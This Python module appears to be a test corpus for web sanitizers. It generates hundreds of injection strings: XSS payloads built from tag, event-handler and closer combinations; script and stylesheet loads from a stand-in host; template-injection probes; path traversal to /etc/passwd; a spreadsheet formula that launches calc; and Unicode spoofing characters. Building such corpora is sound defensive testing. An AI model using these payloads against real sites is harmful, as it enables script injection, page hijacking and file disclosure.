"""Several hundred strings that would run, load or hide something in a page that let them."""

# ruff: noqa: E501 - the strings are as long and as odd as they are

from itertools import product

RUN = "alert(1)"
TAGS = ("img src=x", "svg", "body", "iframe", "video src=x", "audio src=x", "details open", "input autofocus",
        "select autofocus", "object data=x", "marquee", "math", "a href=#", "form", "button autofocus",
        "svg><animate attributeName=x", "style", "link rel=stylesheet href=x", "isindex")  # fmt: skip
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onclick", "onmouseover", "onbegin", "onstart", "onpageshow",
            "onanimationend")  # fmt: skip
CLOSERS = ("", '">', "'>", "-->", "</title>", "</script>", "</textarea>", "</style>", "]]>")
SINGLE = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//x.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>", "<script\x0d\x0a>alert(1)</script>", "<script/x>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)",
    "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "＜script＞alert(1)＜/script＞",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)",
    "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd", "//x.example/x", "https://x.example/\"onclick=alert(1)//", "https://x.example/' onclick='alert(1)",
    "https://x.example/<script>alert(1)</script>", "{{7*7}}", "{{ ''.__class__.__mro__ }}", "{% import os %}", "{# x #}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "@{7*7}", "{{constructor.constructor('alert(1)')()}}", "<!--", "-->", "<![CDATA[", "]]>",
    "<!DOCTYPE html>", "<base href=//x.example>", "<meta http-equiv=refresh content=0;url=//x.example>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">", "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<xmp><script>alert(1)</script></xmp>", "<plaintext>",
    "<svg><script>alert(1)</script></svg>", "<svg><style>*{background:url(//x.example)}</style></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>", "<svg><use href='data:image/svg+xml,x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<style>body{background:url(//x.example/x)}</style>", "<style>@import '//x.example/x.css'</style>",
    "<div style=\"position:fixed;inset:0;background:red\">x</div>", "<p style=background:url(//x.example)>", "expression(alert(1))",
    "</span></p></div></body></html><script>alert(1)</script>", "\"; alert(1); //", "'; alert(1); //", "`${alert(1)}`",
    "\u202egnp.exe", "\u2066\u2067abc\u2069", "a\u200bb", "\ufeffx", "\u0000", "\x08\x1b[31m", "\u2028alert(1)\u2029", "\U000e0041\U000e007f",
    "عنوان <b>", "=cmd|' /C calc'!A0", "../../../../etc/passwd", "..\\..\\windows", "CON", "a" * 5000, "\u200f<script>\u200f",
)  # fmt: skip
STRINGS = (
    *SINGLE,
    *(f"<{tag} {handler}={RUN}>" for tag, handler in product(TAGS, HANDLERS)),
    *(f"{closer}<img src=x onerror={RUN}>" for closer in CLOSERS),
    *(f"{closer}<script>{RUN}</script>" for closer in CLOSERS),
    *(f'"{space}{handler}={space}"{RUN}"' for space, handler in product((" ", "/", "\t", "\x0c"), HANDLERS)),
)
